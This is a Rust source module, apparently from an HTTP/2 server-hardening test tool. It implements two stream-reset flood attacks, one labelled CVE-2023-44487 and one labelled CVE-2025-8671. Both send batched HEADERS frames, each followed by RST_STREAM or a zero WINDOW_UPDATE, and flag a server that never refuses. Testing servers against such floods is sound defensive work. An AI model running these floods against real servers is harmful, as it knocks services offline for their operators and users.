//! Streams that begin and are given up.

use std::sync::Arc;

use super::http2;
use crate::attack::{Attack, Outcome, Round, Target};
use crate::wire;

/// CVE-2023-44487.
pub(super) const RESET_FLOOD: Attack = Attack::new(
    "reset-flood",
    "CVE-2023-44487",
    "calls that are given up at once, with some between them that end as they should",
    |target| Box::pin(resets(target)),
);

/// CVE-2025-8671.
pub(super) const MADE_YOU_RESET: Attack = Attack::new(
    "made-you-reset",
    "CVE-2025-8671",
    "calls that make the server give them up, by a window that is none",
    |target| Box::pin(made(target)),
);

/// Calls that go out together.
const TOGETHER: usize = 100;

async fn resets(target: Arc<Target>) -> anyhow::Result<Outcome> {
    let head = wire::ads();
    let whole = wire::request("GET", "http", "/");
    flood(target, move |stream, out| {
        if stream % 4 == 1 {
            // Ends with an answer, which must not be a licence for more.
            let flags = wire::END_HEADERS | wire::END_STREAM;
            out.extend(wire::frame(wire::HEADERS, flags, stream, &whole));
        } else {
            out.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, stream, &head));
            out.extend(wire::frame(
                wire::RST_STREAM,
                0,
                stream,
                &8_u32.to_be_bytes(),
            ));
        }
    })
    .await
}

async fn made(target: Arc<Target>) -> anyhow::Result<Outcome> {
    let head = wire::ads();
    flood(target, move |stream, out| {
        out.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, stream, &head));
        out.extend(wire::frame(wire::WINDOW_UPDATE, 0, stream, &[0; 4]));
    })
    .await
}

async fn flood(
    target: Arc<Target>,
    one: impl Fn(u32, &mut Vec<u8>) + Send,
) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    let one = &one;
    target
        .again(&mut outcome, |_| async {
            let mut peer = http2(&target).await?;
            let mut sent = 0;
            while target.goes_on() && !peer.told.is_over() {
                let mut out = Vec::new();
                for _ in 0..TOGETHER {
                    one(peer.stream(), &mut out);
                }
                if peer.send(&out).await.is_err() {
                    break;
                }
                sent += TOGETHER as u64;
                tokio::task::yield_now().await;
            }
            Ok(Round { sent, refused: 1 })
        })
        .await;
    if outcome.refused == 0 {
        outcome.broke("a connection may give up as many calls as it likes");
    }
    Ok(outcome)
}
